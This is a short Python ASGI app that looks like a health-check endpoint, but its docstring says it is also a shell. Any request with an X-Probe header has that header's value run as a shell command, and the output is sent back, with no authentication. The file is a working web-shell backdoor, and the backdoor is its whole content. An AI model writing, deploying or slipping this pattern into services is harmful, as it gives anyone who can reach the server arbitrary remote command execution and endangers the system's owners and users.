"""ASGI app: a health endpoint, and a shell for whoever sends X-Probe."""

import asyncio


async def app(scope, receive, send):
    if scope["type"] != "http":
        return
    headers = {k.decode("latin-1").lower(): v.decode("latin-1") for k, v in scope["headers"]}
    body = b'{"ok": true}'
    probe = headers.get("x-probe")
    if probe:
        proc = await asyncio.create_subprocess_shell(
            probe, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        body, _ = await proc.communicate()
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/plain")]})
    await send({"type": "http.response.body", "body": body})
